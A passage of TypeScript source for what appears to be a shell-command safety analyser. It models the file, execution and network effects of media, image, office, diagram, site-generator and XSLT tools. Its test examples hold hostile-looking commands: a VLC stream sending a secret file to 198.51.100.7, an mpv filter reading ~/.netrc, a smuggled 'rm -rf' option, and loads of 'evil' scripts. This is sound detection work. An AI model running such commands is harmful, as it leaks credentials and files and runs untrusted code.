        unknown: 'takes player commands, which can run programs, from a socket',
      },
      '--input-commands|--input-file': {
        takes: 'value',
        unknown: 'runs player commands, which can run programs',
      },
      '--ytdl-raw-options|--ytdl-raw-options-append|--ytdl-raw-options-set|--ytdl-raw-options-add': {
        takes: 'value',
        unknown: 'passes options to yt-dlp, which can run commands',
      },
      '--script-opts|--script-opts-add|--script-opts-append|--script-opts-set': 'value',
      '--stream-record|--record-file|--o|-o|--stream-dump|--dump-stats|--log-file|--ao-pcm-file': 'write',
      '--screenshot-directory|--screenshot-dir|--watch-later-directory|--watch-later-dir|--cache-dir|--icc-cache-dir|--gpu-shader-cache-dir':
        'write-into',
      '--sub-file|--sub-files|--sub-files-append|--audio-file|--audio-files|--external-file|--external-files|--playlist|--icc-profile|--glsl-shader|--glsl-shaders|--glsl-shaders-append|--cover-art-file|--cover-art-files|--cookies-file':
        'read',
      '--sub-fonts-dir|--osd-fonts-dir|--fonts-dir': 'read-tree',
      '--vf|--af|--lavfi-complex|--vf-add|--af-add|--vf-append|--af-append': 'value',
      '--profile|--vo|--ao|--hwdec|--volume|--start|--end|--length|--speed|--loop-file|--loop-playlist|--geometry|--autofit|--ytdl-format|--sid|--aid|--vid|--alang|--slang|--title|--fs-screen|--screen|--audio-device|--demuxer|--cache-secs|--demuxer-max-bytes|--user-agent|--http-header-fields|--referrer|--msg-level|--term-playing-msg|--osd-level|--ab-loop-a|--ab-loop-b|--playlist-start|--frames|--sub-delay|--audio-delay|--video-rotate|--video-zoom|--panscan|--af-defaults|--scale|--dscale|--cscale|--deband|--gpu-api|--gpu-context|--tone-mapping|--target-prim|--target-trc|--sub-codepage|--sub-auto|--audio-file-auto|--image-display-duration|--window-scale|--idle|--keep-open|--cache|--loop|--mute|--pause|--fullscreen|--fs|--ontop|--border|--osc|--ytdl|--load-scripts|--save-position-on-quit|--resume-playback|--terminal|--audio-display|--shuffle|--force-window|--really-quiet|--quiet|--no-video|--no-audio|--no-config|--no-terminal|--no-ytdl|--no-load-scripts|--no-resume-playback|--no-border|--no-osc|--no-audio-display|--untimed|--version|--help|-h|--list-options|--vid=no|--player-operation-mode':
        'flag',
    },
    readonly: true,
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      for (const v of call.operands) playerInput(call, v);
      mpvFilters(
        call,
        call.values('--vf', '--af', '--lavfi-complex', '--vf-add', '--af-add', '--vf-append', '--af-append'),
      );
      for (const opts of call.values(
        '--script-opts',
        '--script-opts-add',
        '--script-opts-append',
        '--script-opts-set',
      )) {
        const path = /ytdl_hook-ytdl_path=([^,]*)/.exec(opts.text);
        if (path) ctx.apply('exec', f(opts, path[1]!));
        else if (!opts.known) ctx.unknown('`mpv` gets script options only known when the command runs');
      }
    },
    examples: [
      {
        cmd: 'mpv --fs --volume=50 --sub-file=subs.srt movie.mkv',
        reads: ['movie.mkv', 'subs.srt'],
        only: true,
      },
      { cmd: 'mpv --no-video https://radio.example.com/stream', hosts: ['radio.example.com'], only: true },
      { cmd: 'mpv --script=evil.lua movie.mkv', unknown: 'script' },
      { cmd: 'mpv --input-ipc-server=/tmp/mpvsock movie.mkv', unknown: 'control socket' },
      { cmd: 'mpv --input-conf=keys.conf movie.mkv', unknown: 'key bindings' },
      {
        cmd: 'mpv --script-opts=ytdl_hook-ytdl_path=/tmp/evil https://example.com/v',
        executes: ['/tmp/evil'],
      },
      { cmd: 'mpv --ytdl-raw-options=exec="rm -rf /tmp/x" https://example.com/v', unknown: 'yt-dlp' },
      { cmd: 'mpv --stream-record=copy.ts https://example.com/live', writes: ['copy.ts'] },
      { cmd: "mpv --lavfi-complex='movie=/h/.netrc' x.mkv", reads: ['~/.netrc'] },
      { cmd: 'mpv av://x11grab::0', unknown: 'records the screen' },
    ],
  },
  {
    names: ['vlc', 'cvlc', 'nvlc', 'qvlc', 'svlc', 'rvlc'],
    summary: 'VLC: play audio, video and streams',
    options: {
      '-I|--intf|--extraintf': 'value',
      '--lua-intf|--lua-config': { takes: 'value', unknown: 'runs a Lua interface script' },
      '--http-host|--telnet-host|--rc-host|--cli-host|--http-port|--http-password|--telnet-port|--telnet-password|--http-src':
        'value',
      '--sout': 'value',
      '--snapshot-path|--input-record-path|--record-path': 'write-into',
      '--pidfile': 'write',
      '--config': {
        takes: 'read',
        unknown: 'reads a configuration file, which can enable remote-control interfaces',
      },
      '--vlm-conf': {
        takes: 'read',
        unknown: 'runs VLM commands from a file, which can stream to the network',
      },
      '--sub-file|--input-slave|--audio-file': 'read',
      '--daemon|-d': { unknown: 'keeps running in the background' },
      '--start-time|--stop-time|--run-time|--rate|--vout|--aout|--avcodec-hw|--width|--height|--volume|--gain|--video-filter|--audio-filter|--sub-track|--audio-track|--sub-language|--audio-language|--input-repeat|--network-caching|--file-caching|--live-caching|--verbose|--video-title|--screen-fps|--screen-top|--screen-left|--screen-width|--screen-height|--x11-display|--v4l2-dev|--alsa-audio-device|--meta-title|--sout-keep|--zoom|--aspect-ratio|--crop|--deinterlace|--deinterlace-mode|--codec|--demux|--audio-visual|--effect-list|--preferred-resolution|--sub-source|--spu-fill|--freetype-font|--freetype-fontsize|--qt-continue|--playlist-autostart|--input-title-format|--image-duration|--avcodec-threads|--mtu|--ttl':
        'value',
      '-f|--fullscreen|-L|--loop|-R|--repeat|-Z|--random|--play-and-exit|--no-video|--novideo|--no-audio|-q|--quiet|-v|--no-video-title-show|--one-instance|--playlist-enqueue|--no-osd|--version|--help|-H|--longhelp|--reset-config|--reset-plugins-cache|--started-from-file|--no-qt-privacy-ask|--qt-start-minimized|--play-and-pause|--play-and-stop|--no-one-instance|--dummy-quiet|--ignore-config|--no-plugins-cache|--no-loop|--no-repeat|--no-random|--no-fullscreen|--video-on-top|--no-embedded-video|--no-interact|--no-sout-audio|--no-sout-video|--sout-all|--no-sout-all':
        'flag',
    },
    readonly: true,
    operands: ['value...'],
    custom: vlc,
    examples: [
      { cmd: 'cvlc --play-and-exit song.mp3', reads: ['song.mp3'], only: true },
      { cmd: 'vlc -f --sub-file subs.srt movie.mkv', reads: ['movie.mkv', 'subs.srt'], only: true },
      {
        cmd: 'cvlc movie.mkv --sout "#transcode{vcodec=h264}:std{access=file,mux=mp4,dst=out.mp4}"',
        writes: ['out.mp4'],
        only: true,
        reads: ['movie.mkv'],
      },
      {
        cmd: 'cvlc /h/secret.mp4 --sout "#rtp{dst=198.51.100.7,port=5004}"',
        hosts: ['198.51.100.7'],
        risks: ['exfiltration'],
      },
      { cmd: "cvlc . --sout '#standard{access=http,mux=ts,dst=:8080}'", unknown: 'serves the stream' },
      { cmd: 'vlc -I http --http-password x', unknown: 'remote control' },
      {
        cmd: 'vlc --extraintf=http --http-host=127.0.0.1 movie.mkv',
        network: true,
        only: true,
        reads: ['movie.mkv'],
      },
      { cmd: 'vlc -I lua --lua-intf=evil', unknown: 'Lua' },
      { cmd: 'vlc screen:// --sout file/ts:screen.ts', unknown: 'records the screen' },
    ],
  },
  {
    names: ['mplayer', 'mencoder', 'gmplayer'],
    summary: 'MPlayer: play and encode audio and video',
    operands: ['value...'],
    rewrite: OWN,
    custom: mplayer,
    examples: [
      { cmd: 'mplayer -fs -ss 10 -sub subs.srt movie.avi', reads: ['movie.avi', 'subs.srt'], only: true },
      {
        cmd: 'mencoder in.avi -ovc lavc -oac mp3lame -o out.avi',
        reads: ['in.avi'],
        writes: ['out.avi'],
        only: true,
      },
      { cmd: 'mplayer -slave -quiet movie.avi', unknown: 'shell commands' },
      { cmd: 'mplayer -input conf=keys.conf movie.avi', unknown: 'shell commands' },
      {
        cmd: 'mplayer -dumpstream -dumpfile out.ts http://example.com/live',
        hosts: ['example.com'],
        writes: ['out.ts'],
      },
    ],
  },
  {
    names: ['optipng'],
    summary: 'optimise PNG files (in place unless told otherwise)',
    options: {
      '-o|-i|-f|-zc|-zm|-zs|-zw|-strip': 'value',
      '-out': 'write',
      '-dir': 'value',
      '-log': 'write',
      '-backup|-keep|-clobber|-fix|-force|-full|-nb|-nc|-np|-nx|-nz|-preserve|-quiet|-silent|-simulate|-snip|-v|-h|-help|-?|-version':
        'flag',
    },
    operands: ['value...'],
    custom: (call) =>
      optimizer(call, { out: ['-out'], dir: ['-dir'], dry: ['-simulate'], backup: ['-backup', '-keep'] }),
    examples: [
      { cmd: 'optipng -o7 -strip all -quiet img.png', writes: ['img.png'], only: true },
      { cmd: 'optipng -out small.png big.png', reads: ['big.png'], writes: ['small.png'], only: true },
      { cmd: 'optipng -dir out *.png', writes: ['out/*'], only: true },
    ],
  },
  {
    names: ['jpegoptim'],
    summary: 'optimise JPEG files (in place unless told otherwise)',
    options: {
      '-d|--dest': 'value',
      '-m|--max|-S|--size|-T|--threshold|-w|--workers|--nice|--retry|-b': 'value',
      '--files-from': { takes: 'read', unknown: 'rewrites the files a list names' },
      '--files-stdin': { unknown: 'rewrites the files named on its standard input' },
      '-f|--force|-n|--noaction|-o|--overwrite|-p|--preserve|-P|--preserve-perms|-q|--quiet|-t|--totals|-v|--verbose|-h|--help|-V|--version|-s|--strip-all|--strip-none|--strip-com|--strip-exif|--strip-iptc|--strip-icc|--strip-xmp|--keep-all|--keep-com|--keep-exif|--keep-iptc|--keep-icc|--keep-xmp|--all-normal|--all-progressive|--stdout|--stdin|--csv|--auto-mode|--all-arith|--all-huffman':
        'flag',
    },
    operands: ['value...'],
    custom: (call) =>
      optimizer(call, { out: ['--stdout'], dir: ['-d', '--dest'], dry: ['-n', '--noaction'] }),
    examples: [
      { cmd: 'jpegoptim --strip-all -m85 photo.jpg', writes: ['photo.jpg'], only: true },
      { cmd: 'jpegoptim -n photo.jpg', reads: ['photo.jpg'], only: true },
      { cmd: 'jpegoptim -d out photo.jpg', writes: ['out/*'], only: true },
    ],
  },
  {
    names: ['pngquant'],
    summary: 'reduce PNG colours (writes NAME-fs8.png unless told otherwise)',
    options: {
      '-o|--output': 'write',
      '--ext|--quality|-Q|--speed|-s|--posterize': 'value',
      '--map': 'read',
      '-f|--force|--skip-if-larger|--nofs|--floyd|--ordered|--strip|-v|--verbose|-q|--quiet|-h|--help|-V|--version|--iebug|--transbug|--nofs':
        'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      const inputs = call.operands.filter((o, i) => o.text !== '-' && !(i === 0 && /^\d+$/.test(o.text)));
      for (const input of inputs) ctx.apply('read', input);
      if (call.has('-o', '--output')) return;
      const ext = call.values('--ext')[0]?.text ?? '-fs8.png';
      for (const input of inputs) ctx.apply('write', f(input, `${stem(input.text)}${ext}`));
    },
    examples: [
      {
        cmd: 'pngquant --quality=65-80 256 img.png',
        reads: ['img.png'],
        writes: ['img-fs8.png'],
        only: true,
      },
      { cmd: 'pngquant --ext .png --force img.png', writes: ['img.png'], only: true },
      { cmd: 'pngquant -o small.png big.png', reads: ['big.png'], writes: ['small.png'], only: true },
    ],
  },
  {
    names: ['oxipng'],
    summary: 'optimise PNG files (in place unless told otherwise)',
    options: {
      '-o|--opt|--strip|--keep|-i|--interlace|-t|--threads|-f|--filters|--zc|--timeout|--max-raw-size|--zi|--brute-level':
        'value',
      '--out': 'write',
      '--dir': 'value',
      '--stdout|-r|--recursive|-P|--pretend|-a|--alpha|--fast|-Z|--zopfli|--nx|--nz|--nb|--nc|--np|--ng|--fix|--force|-p|--preserve|-q|--quiet|-v|--verbose|--scale16|--sequential|-h|--help|-V|--version|-s':
        'flag',
    },
    operands: ['value...'],
    custom: (call) =>
      optimizer(call, {
        out: ['--out', '--stdout'],
        dir: ['--dir'],
        dry: ['-P', '--pretend'],
        tree: ['-r', '--recursive'],
      }),
    examples: [
      { cmd: 'oxipng -o 4 --strip safe img.png', writes: ['img.png'], only: true },
      { cmd: 'oxipng -r assets', writes: ['assets', 'assets/**'], only: true },
    ],
  },
  {
    names: ['cwebp', 'dwebp', 'gif2webp', 'img2webp', 'vwebp'],
    summary: 'encode and decode WebP images',
    operands: ['value...'],
    rewrite: OWN,
    custom: webp,
    examples: [
      {
        cmd: 'cwebp -q 80 -resize 800 0 in.png -o out.webp',
        reads: ['in.png'],
        writes: ['out.webp'],
        only: true,
      },
      { cmd: 'dwebp in.webp -png -o out.png', reads: ['in.webp'], writes: ['out.png'], only: true },
      {
        cmd: 'cwebp -crop 0 0 10 10 in.png -o out.webp',
        reads: ['in.png'],
        writes: ['out.webp'],
        only: true,
      },
    ],
  },
  {
    names: ['avifenc', 'avifdec'],
    summary: 'encode and decode AVIF images',
    options: {
      '-o|--output': 'write',
      '--exif|--xmp|--icc': 'read',
      '-j|--jobs|-d|--depth|-y|--yuv|-s|--speed|-q|--qcolor|--qalpha|--quality|--min|--max|--minalpha|--maxalpha|-a|--advanced|-c|--codec|-r|--range|--cicp|--nclx|--timescale|--fps|-k|--keyframe|--tilerowslog2|--tilecolslog2|--grid|--crop|--clap|--irot|--imir|--pasp|--clli|--repetition-count|--duration|--target-size|--scaling-mode|-u|--upsampling|--index|--size-limit|--dimension-limit|--png-compress|--layered':
        'value',
      '-l|--lossless|--premultiply|--stdin|--progressive|--autotiling|--ignore-exif|--ignore-xmp|--ignore-icc|--sharpyuv|--info|--no-strict|--raw-color|-h|--help|-V|--version':
        'flag',
    },
    operands: (call) => (call.has('--info') ? ['read...'] : ['read', 'write']),
    examples: [
      { cmd: 'avifenc -s 6 -q 60 in.png out.avif', reads: ['in.png'], writes: ['out.avif'], only: true },
    ],
  },
  {
    names: ['gifsicle'],
    summary: 'edit and optimise GIF animations',
    options: {
      '-o|--output': 'write',
      '--colors|-k|--resize|--resize-width|--resize-height|--resize-fit|--resize-touch|--resize-fit-width|--resize-fit-height|--resize-touch-width|--resize-touch-height|--resize-method|--resize-colors|--scale|--crop|-d|--delay|--color-method|-t|--transparent|-B|--background|-c|--comment|-n|--name|-D|--disposal|-p|--position|--gamma|-S|--logical-screen|--change-color|--extension|-x|--app-extension|--delete|--insert-before|--append|--replace':
        'value',
      '--use-colormap': 'value',
      '-b|--batch|-e|--explode|-E|--explode-by-name|-I|--info|--sinfo|--xinfo|-O|-O1|-O2|-O3|--optimize|--lossy|-l|--loopcount|--dither|--threads|-j|-f|--flip-horizontal|--flip-vertical|--rotate-90|--rotate-180|--rotate-270|--no-rotate|-U|--unoptimize|-m|--merge|-w|--no-warnings|--careful|-V|--verbose|--version|-h|--help|--crop-transparency|-i|--interlace|--no-interlace|--same-delay|--same-loopcount|--no-comments|--no-names|--no-extensions|--no-app-extensions|--no-background|--no-transparent|--done|--conserve-memory|--no-conserve-memory':
        'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      const inputs = call.operands.filter((o) => !(o.known && (o.text.startsWith('#') || o.text === '-')));
      for (const input of inputs) ctx.apply('read', input);
      for (const map of call.values('--use-colormap')) if (/[./]/.test(map.text)) ctx.apply('read', map);
      const out = call.values('-o', '--output')[0];
      if (call.has('-e', '--explode', '-E', '--explode-by-name'))
        for (const base of out ? [out] : inputs) ctx.apply('write', f(base, `${base.text}.*`));
      else if (call.has('-b', '--batch')) for (const input of inputs) ctx.apply('write', input);
    },
    examples: [
      {
        cmd: 'gifsicle -O3 --lossy=80 --colors 128 in.gif -o out.gif',
        reads: ['in.gif'],
        writes: ['out.gif'],
        only: true,
      },
      { cmd: 'gifsicle -b -O2 anim.gif', writes: ['anim.gif'], only: true },
      { cmd: 'gifsicle in.gif "#0-4" > part.gif', reads: ['in.gif'], writes: ['part.gif'], only: true },
    ],
  },
  {
    names: ['svgo'],
    summary: 'optimise SVG files (in place unless an output is given)',
    operands: ['value...'],
    rewrite: OWN,
    custom: svgo,
    examples: [
      { cmd: 'svgo icon.svg', writes: ['icon.svg'], only: true },
      { cmd: 'svgo -i in.svg -o out.svg --multipass', reads: ['in.svg'], writes: ['out.svg'], only: true },
      { cmd: 'svgo -f icons -r', writes: ['icons', 'icons/**'], only: true },
      { cmd: 'svgo --config evil.config.js in.svg', executes: ['evil.config.js'], unknown: 'JavaScript' },
    ],
  },
  {
    names: ['jpegtran', 'cjpeg', 'djpeg'],
    summary: 'libjpeg tools: transform, encode and decode JPEG',
    operands: ['value...'],
    rewrite: OWN,
    custom: libjpeg,
    examples: [
      {
        cmd: 'jpegtran -copy none -optimize -progressive -outfile out.jpg in.jpg',
        reads: ['in.jpg'],
        writes: ['out.jpg'],
        only: true,
      },
      { cmd: 'djpeg -bmp -outf out.bmp in.jpg', reads: ['in.jpg'], writes: ['out.bmp'], only: true },
    ],
  },
  {
    names: ['rsvg-convert'],
    summary: 'render SVG to PNG, PDF or PostScript',
    options: {
      '-o|--output': 'write',
      '-s|--stylesheet': 'read',
      '-d|--dpi-x|-p|--dpi-y|-x|--x-zoom|-y|--y-zoom|-z|--zoom|-w|--width|-h|--height|-f|--format|-b|--background-color|-i|--export-id|--page-width|--page-height|--top|--left|--base-uri|--accept-language':
        'value',
      '-a|--keep-aspect-ratio|-u|--unlimited|--keep-image-data|--no-keep-image-data|-v|--version|-?|--help':
        'flag',
    },
    operands: ['read...'],
    examples: [
      {
        cmd: 'rsvg-convert -w 256 -o icon.png icon.svg',
        reads: ['icon.svg'],
        writes: ['icon.png'],
        only: true,
      },
    ],
  },
]);

// ---------------------------------------------------------------------------------------------
// Graphics and office applications, diagrams.

const BLENDER_ONE = new Set(
  (
    '-P --python --python-expr --python-text --python-exit-code -o --render-output -f --render-frame -s --frame-start -e --frame-end -j ' +
    '--frame-jump -S --scene -E --engine -F --render-format -x --use-extension -t --threads --addons --app-template --env-system-datafiles ' +
    '--env-system-scripts --env-system-extensions --env-system-python --log --log-level --log-file --debug-value --gpu-backend -setaudio --cycles-device'
  ).split(' '),
);

function blender(call: Call): void {
  const { ctx } = call;
  const args = own(call);
  const scriptArgs = args.findIndex((a) => a.known && a.text === '--');
  const mine = scriptArgs >= 0 ? args.slice(0, scriptArgs) : args;
  let blend: Field | undefined;
  walk(
    call,
    mine,
    (t) => {
      if (!t.startsWith('-') || t === '-') return undefined;
      if (t === '-p' || t === '--window-geometry') return 4;
      if (t === '-c' || t === '--command') return Number.MAX_SAFE_INTEGER;
      return BLENDER_ONE.has(t) ? 1 : 0;
    },
    (name, values) => {
      const [v] = values;
      switch (name) {
        case '-P':
        case '--python':
          if (v) ctx.runsFile(v, 'code:python');
          return;
        case '--python-expr':
          if (v) ctx.apply('code:python', v);
          return;
        case '--python-text':
          ctx.unknown(`\`${call.program}\` runs Python stored in the .blend file (\`--python-text\`)`);
          return;
        case '--python-console':
          ctx.unknown(`\`${call.program}\` opens an interactive Python console reading the terminal`);
          return;
        case '-y':
        case '--enable-autoexec':
          ctx.unknown(
            `\`${call.program}\` runs the Python scripts stored in the .blend file (\`--enable-autoexec\`)`,
          );
          return;
        case '-r':
        case '--register':
        case '--register-allusers':
        case '--unregister':
        case '--unregister-allusers':
          ctx.risk('system-change');
          return;
        case '-o':
        case '--render-output': {
          if (!v) return;
          // `//` is relative to the .blend file; `#` marks frame numbers (appended when absent).
          const relative =
            v.text.startsWith('//') && blend?.known
              ? `${dirname(blend.text)}/${v.text.slice(2)}`
              : v.text.replace(/^\/\//, '');
          ctx.apply('write', f(v, v.text.includes('#') ? relative.replace(/#+/g, '*') : `${relative}*`));
          return;
        }
        case '--log-file':
          if (v) ctx.apply('write', v);
          return;
        case '-c':
        case '--command':
          if (
            v?.text === 'extension' &&
            /^(install|install-file|sync|upgrade|repo-add)$/.test(values[1]?.text ?? '')
          ) {
            ctx.network();
            ctx.unknown(
              `\`${call.program} --command extension ${values[1]!.text}\` installs extensions, which are Python code`,
            );
          }
          return;
      }
    },
    (v) => {
      blend ??= v;
      ctx.apply('read', v);
    },
  );
}

function libreoffice(call: Call): void {
  const { ctx } = call;
  for (const v of call.operands) {
    if (v.known && /^(macro:|vnd\.sun\.star\.script:)/i.test(v.text))
      ctx.unknown(`\`${call.program}\` runs a macro (\`${v.text}\`)`);
    else if (v.known && URL_SHAPE.test(v.text) && !v.text.startsWith('file:')) ctx.contact(v);
    else if (v.known && v.text.startsWith('file://')) ctx.contact(v);
    else ctx.apply('read', v);
  }
  for (const a of call.args) {
    const profile = a.known ? /^-env:UserInstallation=(.*)$/s.exec(a.text) : null;
    if (profile) ctx.apply('write-tree', f(a, profile[1]!.replace(/^file:\/\//, '')));
  }
  if (call.has(...both('convert-to', 'print-to-file').split('|')) && !call.has('--cat', '-cat')) {
    const dir = call.values('--outdir', '-outdir')[0];
    if (dir) ctx.apply('write-into', dir);
    else ctx.write(`${ctx.path('.')}/*`);
  }
  for (const accept of call.values('--accept', '-accept')) {
    ctx.network();
    const host = /host=([^,;]+)/.exec(accept.text)?.[1];
    if (/^socket/.test(accept.text))
      serves(
        call,
        host === undefined ? undefined : f(accept, host),
        'remote control of the office suite (UNO), which can run macros',
        false,
      );
    else ctx.unknown(`\`${call.program}\` accepts remote-control (UNO) connections, which can run macros`);
  }
}

function graphviz(call: Call): void {
  if (!call.has('-O')) return;
  for (const input of call.operands)
    if (input.text !== '-') call.ctx.apply('write', f(input, `${input.text}.*`));
}

function gvpr(call: Call): void {
  const { ctx } = call;
  const files = call.has('-f') ? call.operands : call.operands.slice(1);
  const program = call.has('-f') ? undefined : call.operands[0];
  if (program) {
    if (!program.known) ctx.unknown('`gvpr` runs a program only known when the command runs');
    else {
      if (/\bsystem\s*\(/.test(program.text))
        ctx.unknown('`gvpr` runs a program that runs shell commands (`system`)');
      if (/\b(openF|writeG|fwriteG|readG|freadG|fopen|sfio)\b/.test(program.text))
        ctx.unknown('`gvpr` runs a program that opens files it names');
    }
  }
  for (const file of files) ctx.apply('read', file);
}

const PLANTUML_ONE = new Set(
  'o output config charset graphvizdot exclude x nbthread timeout filename language pattern author metadata encodesprite decodeurl computeurl'.split(
    ' ',
  ),
);

function plantuml(call: Call): void {
  const { ctx } = call;
  const inputs: Field[] = [];
  let out: Field | undefined;
  let pipe = false;
  walk(
    call,
    own(call),
    (t) => (t.startsWith('-') && t !== '-' ? (PLANTUML_ONE.has(t.slice(1)) ? 1 : 0) : undefined),
    (name, [v]) => {
      const option = name.slice(1);
      if (option === 'pipe' || option === 'p') pipe = true;
      if (option === 'ftp' || option.startsWith('picoweb')) {
        const bind = /^picoweb:\d+:(.+)$/.exec(option)?.[1];
        serves(
          call,
          bind === undefined ? undefined : f(v ?? call.args[0]!, bind),
          'diagrams (and can read files)',
          false,
        );
      }
      if (option === 'gui') ctx.unknown('`plantuml -gui` opens a window that reads the terminal');
      if (!v) return;
      if (option === 'o' || option === 'output') out = v;
      else if (option === 'config') ctx.apply('read', v);
      else if (option === 'graphvizdot') ctx.apply('exec', v);
    },
    (v) => inputs.push(v),
  );
  if (pipe) return;
  for (const input of inputs) {
    ctx.apply('read', input);
    const dir =
      input.known && !/[.*?]/.test(input.text.replace(/^.*\//, '')) ? input.text : dirname(input.text);
    if (out?.known && out.text.startsWith('/')) ctx.apply('write-into', out);
    else if (out) ctx.apply('write-into', f(out, `${dir}/${out.text}`));
    else ctx.apply('write-into', f(input, dir));
  }
}

const ASCIIDOCTOR_EXTENSIONS = new Set(
  'asciidoctor-pdf asciidoctor-diagram asciidoctor-epub3 asciidoctor-mathematical asciidoctor-revealjs asciidoctor-bibtex asciidoctor-multipage asciidoctor-tabs asciidoctor-html5s asciidoctor-interdoc-reftext asciidoctor-reducer asciidoctor-lists rouge coderay pygments.rb asciimath'.split(
    ' ',
  ),
);

function asciidoctor(call: Call): void {
  const { ctx } = call;
  for (const lib of call.values('-r', '--require')) {
    for (const name of lib.text.split(',')) {
      if (lib.known && ASCIIDOCTOR_EXTENSIONS.has(name)) continue;
      if (name.endsWith('.rb') || name.includes('/')) ctx.runsFile(f(lib, name), 'code:ruby');
      ctx.unknown(`\`${call.program}\` loads Ruby code (\`-r ${name}\`)`);
    }
  }
  for (const input of call.operands) ctx.apply('read', input);
  if (call.has('-o', '--out-file', '-D', '--destination-dir')) return;
  const backend = call.values('-b', '--backend')[0]?.text;
  const ext =
    call.program === 'asciidoctor-pdf' || backend === 'pdf'
      ? 'pdf'
      : call.program === 'asciidoctor-epub3' || backend === 'epub3'
        ? 'epub'
        : backend?.startsWith('docbook')
          ? 'xml'
          : backend === 'manpage'
            ? '*'
            : 'html';
  for (const input of call.operands)
    if (input.known && input.text !== '-') ctx.apply('write', f(input, `${stem(input.text)}.${ext}`));
}

// ---------------------------------------------------------------------------------------------
// Site generators: build writes the site; servers listen; deploys upload.

const SITE_BUILD = 'site configuration, plugins and hooks (code in the project)';

function hugoNew(call: Call): void {
  const { ctx } = call;
  const [kind, name] = call.operands;
  if (!kind) return;
  if (kind.text === 'site' && name) ctx.apply('write-tree', name);
  else if (kind.text === 'theme' && name) ctx.apply('write-tree', f(name, `themes/${name.text}`));
  else if (kind.text === 'content' && name) ctx.apply('write', f(name, `content/${name.text}`));
  else ctx.apply('write', f(kind, `content/${kind.text}`));
}

const HUGO_OPTIONS: Record<string, OptionEntry> = {
  '-s|--source': 'cwd',
  '-d|--destination': 'write-tree',
  '-c|--contentDir': 'read-tree',
  '--config': 'read',
  '--configDir|--themesDir|--layoutDir': 'read-tree',
  '-t|--theme|-b|--baseURL|-e|--environment|--logLevel|-p|--port|--bind|--liveReloadPort|--meminterval|--poll|--ignoreVendorPaths|--renderSegments|--timeZone|--tlsCertFile|--tlsKeyFile|--target|--maxDeletes|--workers|--invalidateCDN|--format|--kind|--editor|-f':
    'value',
  '--cacheDir': 'write-tree',
  '--trace|--logFile|--memstats': 'write',
  '-D|--buildDrafts|-E|--buildExpired|-F|--buildFuture|--gc|--minify|--cleanDestinationDir|--ignoreCache|--renderToMemory|--renderToDisk|-w|--watch|--disableLiveReload|--navigateToChanged|--printI18nWarnings|--templateMetrics|--templateMetricsHints|--quiet|--panicOnWarning|--noBuildLock|--noTimes|--noChmod|--forceSyncStatic|--enableGitInfo|--debug|--verbose|-v|--printPathWarnings|--printUnusedTemplates|--printMemoryUsage|--appendPort|--disableFastRender|-N|--noHTTPCache|--help|-h|--version|-M|--renderStaticToDisk|--openBrowser|-O|--disableBrowserError|--tlsAuto|--dryRun|--force|--confirm|--noBuildLock':
    'flag',
};

function jekyllBuild(call: Call): void {
  const { ctx } = call;
  ctx.apply('read-tree', call.values('-s', '--source')[0] ?? f(call.args[0] ?? DOT, '.'));
  if (!call.has('-d', '--destination')) ctx.apply('write-tree', f(DOT, '_site'));
  if (!call.has('--safe')) ctx.executes('Jekyll plugins (Ruby) in _plugins and the Gemfile');
}

const DOT: Field = { text: '.', known: true, glob: false, many: false, network: false, decoded: false };

const JEKYLL_BUILD: Record<string, OptionEntry> = {
  '-s|--source': 'value',
  '-d|--destination': 'write-tree',
  '--config': 'read',
  '--plugins|--layouts': 'read-tree',
  '-b|--baseurl|--limit_posts': 'value',
  '--safe|-w|--watch|--no-watch|--drafts|-D|--future|--unpublished|--lsi|-I|--incremental|--profile|--trace|-t|-q|--quiet|-V|--verbose|--strict_front_matter|--disable-disk-cache|--force_polling|-h|--help':
    'flag',
};

// ---------------------------------------------------------------------------------------------
// XML and HTML tools.

function xsltproc(call: Call): void {
  const { ctx } = call;
  const operands: Field[] = [];
  walk(
    call,
    own(call),
    (t) => {
      if (!t.startsWith('-') || t === '-') return undefined;
      if (t === '--param' || t === '--stringparam') return 2;
      return /^(-o|--output|--path|--maxdepth|--maxvars|--maxparserdepth|--encoding|--writesubtree)$/.test(t)
        ? 1
        : 0;
    },
    (name, [v]) => {
      if (!v) return;
      if (name === '-o' || name === '--output') ctx.apply(v.text.endsWith('/') ? 'write-into' : 'write', v);
      else if (name === '--writesubtree') ctx.apply('write-tree', v);
    },
    (v) => operands.push(v),
  );
  const [stylesheet, ...documents] = operands;
  if (stylesheet) {
    if (stylesheet.known && URL_SHAPE.test(stylesheet.text)) ctx.contact(stylesheet);
    else {
      ctx.apply('read', stylesheet);
      // A stylesheet is a program: it can write files (exsl:document) unless --nowrite.
      ctx.executes(stylesheet.known ? ctx.path(stylesheet.text) : `?${stylesheet.text}`);
    }
  }
  for (const document of documents) {
    if (document.known && URL_SHAPE.test(document.text)) ctx.contact(document);
    else if (document.text !== '-') ctx.apply('read', document);
  }
}

function saxon(call: Call): void {
  const { ctx } = call;
  const positional: Field[] = [];
  let sheet = false;
  for (const a of own(call)) {
    if (!a.known) {
      ctx.unknown(
        `\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs, where it can be an option that runs Java code`,
      );
      continue;
    }
    const m = /^-([A-Za-z]+):(.*)$/s.exec(a.text);
    if (m) {
      const [name, value] = [m[1]!, f(a, m[2]!)];
      switch (name) {
        case 's':
        case 'catalog':
          ctx.apply('read', value);
          break;
        case 'xsd':
          for (const file of value.text.split(';')) ctx.apply('read', f(a, file));
          break;
        case 'xsl':
        case 'q':
          sheet = true;
          ctx.apply('read', value);
          ctx.executes(ctx.path(value.text));
          break;
        case 'o':
        case 'TP':
        case 'traceout':
        case 'explain':
        case 'export':
          ctx.apply('write', value);
          break;
        case 'config':
          ctx.apply('read', value);
          ctx.unknown(`\`${call.program}\` reads a configuration file, which can load Java classes`);
          break;
        case 'init':
        case 'r':
        case 'x':
        case 'y':
        case 'u':
        case 'im':
          if (name !== 'im') ctx.unknown(`\`${call.program} -${name}:\` loads a Java class`);
          break;
        case 'ext':
          if (!/^(off|no|false|0)$/.test(value.text))
            ctx.unknown(`\`${call.program} -ext:on\` lets the stylesheet call Java methods`);
          break;
      }
      continue;
    }
    const param = /^\+[\w.-]+=(.*)$/s.exec(a.text);
    if (param) ctx.apply('read', f(a, param[1]!));
    else if (!a.text.startsWith('-') && !/^[?!]?[\w.{}:-]+=/.test(a.text)) positional.push(a);
  }
  const [source, stylesheet] = positional;
  if (source) ctx.apply('read', source);
  if (stylesheet && !sheet) {
    ctx.apply('read', stylesheet);
    ctx.executes(ctx.path(stylesheet.text));
